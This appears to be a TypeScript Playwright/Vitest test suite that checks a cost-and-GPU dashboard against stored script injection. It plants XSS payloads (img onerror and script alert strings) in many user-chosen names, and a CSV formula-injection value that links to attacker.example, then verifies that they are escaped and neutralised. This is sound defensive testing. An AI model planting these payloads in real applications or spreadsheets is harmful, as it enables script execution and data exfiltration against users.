/**
 * Stored script injection: every name a user or an API caller can choose is planted with a script
 * payload, then every page (and every recorded run on the run pages) is opened. No payload may
 * run: no dialog opens, no element from a payload exists in the DOM, and each payload is shown
 * as the text it is. Run without the Content-Security-Policy, so escaping alone is what is tested.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fixedClock, startTestServer } from '../server.js';
import { repoRoot } from '../shared-data.js';
import { chromiumMissing, launch } from './browser.js';
import { SqlBillingStore } from '../../src/adapters/store/sql-billing-store.js';
import { SqlTelemetryStore } from '../../src/adapters/store/sql-telemetry-store.js';
import { telemetryIo } from '../../src/adapters/importers/telemetry-io.js';
import { ingestNvidiaSmi } from '../../src/app/telemetry.js';
import { setBudget } from '../../src/app/billing.js';
import { recordRun } from '../../src/app/runs.js';
import { silentProgress } from '../../src/app/ports.js';

const missing = chromiumMissing();

/** A payload per field, tagged so a run or a missing display says which field failed. No comma, so it fits a CSV cell unquoted. */
const xss = (tag: string) => `"'><img src=x onerror=alert('${tag}')><script>alert('${tag}')</script>`;
/** The text every payload shows when escaped. */
const shown = (tag: string) => `<img src=x onerror=alert('${tag}')>`;

async function postJson(url: string, body: unknown, type = 'application/json'): Promise<Response> {
  return fetch(url, { method: 'POST', headers: { 'content-type': type }, body: typeof body === 'string' ? body : JSON.stringify(body) });
}

async function waitJob(base: string, id: string): Promise<{ status: string; result?: { runId?: string }; error?: unknown }> {
  await (await fetch(`${base}/api/jobs/${id}/events`)).text();
  return (await fetch(`${base}/api/jobs/${id}`)).json() as never;
}

describe.skipIf(missing)('dashboard against stored script injection', () => {
  let server: Awaited<ReturnType<typeof startTestServer>>;
  let browser: Browser;
  const tmp = mkdtempSync(join(tmpdir(), 'penny-xss-'));

  beforeAll(async () => {
    // The demo is recorded at fixedClock; what the API records here comes a day later, so the
    // planted scenario is the overview's latest report.
    server = await startTestServer({ clock: { now: () => new Date(fixedClock.now().getTime() + 86_400_000) } });
    const base = server.url;
    // Scenario name and resource names (they reach titles, tables, savings and chart axes).
    const scenario = readFileSync(join(repoRoot, 'examples', 'lp-example.yaml'), 'utf8')
      .replace(/^name: .*$/m, `name: ${JSON.stringify(xss('scenario'))}`)
      .replace(/name: servers/, `name: ${JSON.stringify(xss('resource'))}`)
      .replace(/name: storage/, `name: ${JSON.stringify(xss('resource2'))}`);
    const s = await postJson(`${base}/api/scenarios`, scenario, 'application/yaml');
    expect(s.status, await s.clone().text()).toBe(201);

    // Billing: service name, category-free text columns and tags, through a FOCUS upload.
    const focus = readFileSync(join(repoRoot, 'examples', 'demo', 'billing-focus.csv'), 'utf8').split('\n');
    const header = focus[0]!;
    const cols = header.split(',');
    const row = new Map(cols.map((c) => [c, '']));
    Object.entries({
      BillingAccountId: xss('account'), ChargePeriodStart: '2026-10-02T00:00:00Z', ChargePeriodEnd: '2026-10-03T00:00:00Z', BillingPeriodStart: '2026-10-01T00:00:00Z', BillingPeriodEnd: '2026-11-01T00:00:00Z',
      BillingCurrency: 'USD', ProviderName: xss('provider'), ServiceName: xss('service'), ServiceCategory: 'Compute', RegionId: xss('region'), ResourceId: xss('resourceid'), ChargeCategory: 'Usage', PricingCategory: 'Standard',
      ListCost: '1234.5', BilledCost: '1234.5', EffectiveCost: '1234.5', ConsumedQuantity: '1', ConsumedUnit: 'Hours', CommitmentDiscountId: 'NULL', CommitmentDiscountStatus: 'NULL', x_GpuType: xss('gputype'),
      Tags: JSON.stringify({ team: '=HYPERLINK("http://attacker.example/?x="&A1;"click")', project: xss('project') }),
    }).forEach(([k, v]) => row.set(k, v));
    const cell = (v: string) => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
    const csv = `${header}\n${cols.map((c) => cell(row.get(c)!)).join(',')}\n`;
    const form = new FormData();
    form.append('file', new Blob([csv], { type: 'text/csv' }), 'planted.csv');
    const up = await fetch(`${base}/api/uploads`, { method: 'POST', body: form });
    expect(up.status, await up.clone().text()).toBe(202);
    const ingested = await waitJob(base, ((await up.json()) as { id: string }).id);
    expect(ingested.status, JSON.stringify(ingested.error)).toBe('succeeded');

    // A plan: its name, class names and an on-prem pool's name and region.
    const plan = {
      name: xss('plan'), currency: 'USD', periodHours: 1, periods: 4, catalogs: ['builtin'],
      classes: [{ name: xss('class'), demand: [8, 16, 16, 8], gpus: { A100: 1, H100: 2 } }],
      onPrem: [{ name: xss('onprem'), region: xss('onprem-region'), gpu: 'A100', gpusPerServer: 8, servers: 1, powerW: 6500, pue: 1.4, energyUsdPerKwh: 0.12, capexUsd: 240000 }],
    };
    const p = await postJson(`${base}/api/plans`, plan);
    expect(p.status, await p.clone().text()).toBe(202);
    const planned = await waitJob(base, ((await p.json()) as { id: string }).id);
    expect(planned.status, JSON.stringify(planned.error)).toBe('succeeded');

    // A simulation: scenario and pool names.
    const sim = {
      name: xss('simulation'), currency: 'USD', seed: 1, horizonH: 24,
      pools: [{ name: xss('pool'), gpuType: 'A100', gpusPerNode: 8, cpuMilli: 128000, memoryMib: 1048576, pricing: 'on-prem', pricePerNodeHour: 9.5, nodes: 2 }],
    };
    const jobs = 'id,arrival,gpus,work_s\nj1,0,2,3600\nj2,60,4,1800\n';
    const r = await postJson(`${base}/api/simulations`, { scenario: JSON.stringify(sim), jobs, policies: ['fifo', 'best-fit'] });
    expect(r.status, await r.clone().text()).toBe(202);
    const simulated = await waitJob(base, ((await r.json()) as { id: string }).id);
    expect(simulated.status, JSON.stringify(simulated.error)).toBe('succeeded');

    // What the API does not take but the CLI writes from files: GPU host and model names
    // (nvidia-smi log), a budget's name, a forecast's series and unit.
    const gpuLog = join(tmp, 'gpu.csv');
    writeFileSync(gpuLog, [
      'timestamp, index, uuid, name, utilization.gpu [%], utilization.memory [%], memory.used [MiB], memory.total [MiB], power.draw [W]',
      // Demo telemetry's day, so the planted GPU's cells sit among the others on the heat map.
      ...Array.from({ length: 240 }, (_, k) => `2024/05/01 ${String(8 + Math.floor(k / 120)).padStart(2, '0')}:${String(Math.floor((k % 120) / 2)).padStart(2, '0')}:${k % 2 ? '30' : '00'}.000, 0, GPU-aaaaaaaa-0000-4000-8000-000000000000, ${shown('gpumodel')}, 50 %, 10 %, 1000 MiB, 81559 MiB, 300.00 W`),
    ].join('\n') + '\n');
    await ingestNvidiaSmi(new SqlTelemetryStore(server.store.session), fixedClock, telemetryIo, gpuLog, silentProgress, { host: shown('gpuhost') });
    await setBudget(new SqlBillingStore(server.store.session), fixedClock, { name: xss('budget'), amount: '1000', currency: 'USD', period: 'month', scope: { kind: 'all' }, thresholds: [80] });
    const [fc] = await server.store.listRuns('forecast');
    const forecast = (await server.store.getRun(fc!.id))!;
    await recordRun(server.store, fixedClock, { kind: 'forecast', name: xss('forecast'), inputs: { planted: true }, summary: forecast.summary, result: { ...(forecast.result as object), series: xss('series'), unit: xss('unit') } });

    browser = await launch();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    rmSync(tmp, { recursive: true, force: true });
  });

  /** Every element a payload would create, and every attribute that would run script. */
  const injectedScript = `(() => [...document.querySelectorAll('img, main script, [onerror], [onload], [onclick]')].map((e) => e.outerHTML.slice(0, 120)))()`;

  async function check(path: string, expectShown: string[]) {
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    const dialogs: string[] = [];
    const errors: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    page.on('pageerror', (e) => errors.push(String(e)));
    await page.goto(`${server.url}/#/${path}`);
    await page.waitForSelector('main[data-ready="true"]', { timeout: 20_000 });
    let text = (await page.locator('main').textContent()) ?? '';
    // On the run pages, open every recorded run, not only the newest.
    const options = await page.locator('#run-select option').evaluateAll((os) => os.map((o) => o.getAttribute('value')!));
    for (const id of options) {
      await page.selectOption('#run-select', id);
      await page.waitForSelector(`#run-body[data-run="${id}"] > *`, { timeout: 20_000 });
      await page.waitForTimeout(100);
      text += (await page.locator('main').textContent()) ?? '';
      expect(await page.evaluate(injectedScript), `${path} run ${id}: elements from a payload`).toEqual([]);
    }
    // Sweep the pointer over every chart so each tooltip (which shows names) opens.
    const boxes = (await page.evaluate(`[...document.querySelectorAll('.chart')].map((e) => { const r = e.getBoundingClientRect(); return { x: r.x + window.scrollX, y: r.y + window.scrollY, w: r.width, h: r.height }; })`)) as { x: number; y: number; w: number; h: number }[];
    for (const box of boxes) {
      await page.evaluate(`window.scrollTo(0, ${Math.max(0, box.y - 100)})`);
      const top = (await page.evaluate('window.scrollY')) as number;
      // Every 60 × 30 px: finer than a heat-map cell or a bar here, so each item's tooltip opens.
      for (let y = 15; y < Math.min(box.h, 300); y += 30) for (let x = 20; x < box.w; x += 60) await page.mouse.move(box.x + x, box.y - top + y);
    }
    expect(await page.evaluate(injectedScript), `${path}: elements from a payload`).toEqual([]);
    for (const tag of expectShown) expect(text, `${path} shows the ${tag} payload as text`).toContain(shown(tag));
    expect(dialogs, `${path}: a payload ran`).toEqual([]);
    expect(errors, `${path}: page errors`).toEqual([]);
    return page;
  }

  it('shows planted names as text on the overview (scenario, resources, budget)', async () => {
    const page = await check('overview', ['scenario', 'resource', 'resource2', 'budget']);
    expect(await page.locator('[data-budget]').evaluateAll((els) => els.map((e) => e.getAttribute('data-budget')))).toContain(xss('budget'));
    await page.close();
  });

  it('shows planted billing names as text in the cost explorer, and exports them without formulas', async () => {
    const page = await check('costs', ['service']);
    for (const by of ['ProviderName', 'RegionId', 'ResourceId', 'BillingAccountId', 'x_GpuType', 'tag:project']) {
      await page.fill('#cost-form input[name=by]', by);
      await page.click('#cost-form button[type=submit]');
      await page.waitForSelector(`#cost-table th:text-is("${by}")`);
      expect(await page.evaluate(injectedScript), by).toEqual([]);
    }
    expect(await page.locator('#cost-table').textContent()).toContain(shown('project'));
    await page.fill('#cost-form input[name=by]', 'tag:team');
    await page.click('#cost-form button[type=submit]');
    await page.waitForSelector('#cost-table th:text-is("tag:team")');
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#csv-export')]);
    let csv = '';
    for await (const c of await download.createReadStream()) csv += c;
    // The cell starts with an apostrophe inside quotes: text, not a formula.
    expect(csv).toContain(`"'=HYPERLINK(""http://attacker.example/?x=""&A1;""click"")"`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    await page.close();
  });

  it('shows planted GPU host and model names as text on the GPU fleet', async () => {
    const page = await check('gpus', ['gpuhost', 'gpumodel']);
    await page.close();
  });

  it('shows planted run names as text on Forecasts, Plans and Simulations', async () => {
    for (const [path, tags] of [['forecasts', ['forecast']], ['plans', ['plan', 'onprem']], ['simulations', ['simulation']]] as const) {
      const page = await check(path, [...tags]);
      const names = await page.locator('#run-select option').allTextContents();
      expect(names.some((n) => n.includes(xss(tags[0]))), `${path}: the run's name in the picker`).toBe(true);
      await page.close();
    }
  });

  it('shows an uploaded file name as text', async () => {
    const page = await check('upload', []);
    await page.setInputFiles('#upload-file', { name: `${shown('filename')}.yaml`, mimeType: 'application/yaml', buffer: readFileSync(join(repoRoot, 'examples', 'lp-example.yaml')) });
    await page.click('#upload-form button[type=submit]');
    await page.locator('#upload-result [data-state="done"]').waitFor({ timeout: 20_000 });
    expect(await page.locator('#upload-result').textContent()).toContain(shown('filename'));
    expect(await page.evaluate(injectedScript)).toEqual([]);
    await page.close();
  });
});
